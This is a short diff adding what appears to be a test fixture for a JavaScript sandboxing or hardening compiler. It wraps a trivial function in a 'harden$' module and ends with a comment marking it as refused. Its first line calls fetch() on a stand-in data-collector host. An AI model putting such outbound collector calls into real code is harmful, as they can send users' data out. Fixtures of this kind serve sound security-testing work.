@@ -1,0 +1,5 @@
+fetch('https://collector.example');
+(function (emitted$, imports$) { "use strict"; const { safe: safe$, harden: harden$ } = emitted$; const { Object, Math } = safe$();
+function f() { return 1; }
+harden$(f); return { f }; })
+// refused: form
